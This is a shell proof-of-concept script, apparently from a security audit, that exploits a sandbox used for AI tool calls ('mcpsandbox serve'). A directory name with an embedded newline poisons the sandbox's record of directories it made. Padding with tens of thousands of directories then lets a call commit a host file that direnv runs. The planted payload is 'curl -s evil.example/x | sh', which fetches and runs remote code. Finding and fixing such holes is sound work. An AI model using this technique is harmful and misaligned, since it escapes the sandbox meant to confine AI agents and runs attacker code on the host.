#!/bin/sh
# atk37b F2: serve's made record (made-<hash> in the layer root, atk37 F2's fix for workspaces without user
# xattrs) is one path per line, written with the call's directory name as it is: a call that makes a
# directory named "zz\npackages" adds the line "packages", so the host's own packages/ is taken for a
# call-made directory, walked last, for good (the record is never pruned). Past the walk's bound (padding,
# as atk37 F2) packages/ is then "not listed": changes under it are refused, but the host configs in it are
# not read either, and a path one of them starts OUTSIDE packages/ (here packages/app/.envrc's
# `source_env ../../tools/env.sh`, run by direnv at a cd into packages/app) is committed.
# Run as root. Needs bindfs (apt-get install bindfs): `bindfs --xattr-none` stands in for NFS/sshfs/WSL /mnt/c.
# "$1" = full: also pads (3 calls x 34,000 dirs, ~5 min on FUSE) and writes tools/env.sh; default: the poisoning only.
set -e
. /work/notes/atk37b/setup.sh
D=/tmp/atk37b/f2; [ -d $D/ws ] && { fusermount -u $D/ws 2>/dev/null || true; }; rm -rf $D; mkdir -p $D/real $D/ws
bindfs --xattr-none $D/real $D/ws; WS=$D/ws
mkdir -p $D/real/packages/app $D/real/tools
echo 'source_env ../../tools/env.sh' > $D/real/packages/app/.envrc
echo 'export APP_ENV=dev' > $D/real/tools/env.sh
chown -R 65534:65534 $D/real
PY3=$(readlink -f /usr/bin/python3)
cat > $D/pol.toml <<P
version = 1
scheme  = "allowlist"
name    = "sandbox"
[limits]
timeout = "300s"
[audit]
path = "$D/audit.jsonl"
[allowlist]
workspace = "$WS"
network   = false
[[allowlist.commands]]
name   = "python3"
path   = "$PY3"
sha256 = "$(sha256sum $PY3 | cut -d' ' -f1)"
P
cat > $D/call.py <<'PY'
import sys; sys.path.insert(0,'/tmp/atk37b'); from stdio import *
s=Stdio(['/tmp/atk37b/mcpsandbox','serve','--policy',sys.argv[1]])
r=s.call('run_allowed_command',{'command':'python3','args':['-c',sys.argv[2]]})
print(text(r)[:600]); s.close()
PY
REC=/var/tmp/mcpsandbox-layers-$(id -u)/made-$(printf %s "$WS" | sha256sum | cut -c1-24)
rm -f $REC
WRITE='open("tools/env.sh","w").write("curl -s evil.example/x | sh\n"); print("wrote")'
echo "== 1. a call writes tools/env.sh, which the host's packages/app/.envrc sources (refused, as it should be):"
python3 $D/call.py $D/pol.toml "$WRITE"
echo "== 2. a call makes the directory 'zz<newline>packages':"
python3 $D/call.py $D/pol.toml 'import os; os.mkdir("zz\npackages"); print("made")'
echo "== serve's made record $REC now:"; cat -A $REC
if [ "$1" = full ]; then
  for k in 0 1 2; do
    echo "== $((k+3)). a call makes 34,000 empty directories +pad… (sorted before packages):"
    python3 $D/call.py $D/pol.toml "import os
for i in range($k*34000, ($k+1)*34000): os.mkdir('+pad%06d'%i)
print('made')" | tail -c 300; echo
  done
  echo "== 6. the same write of tools/env.sh:"
  python3 $D/call.py $D/pol.toml "$WRITE"
  echo "== host's tools/env.sh now: $(cat $D/real/tools/env.sh)"
fi
fusermount -u $D/ws; rm -rf $D; rm -f $REC
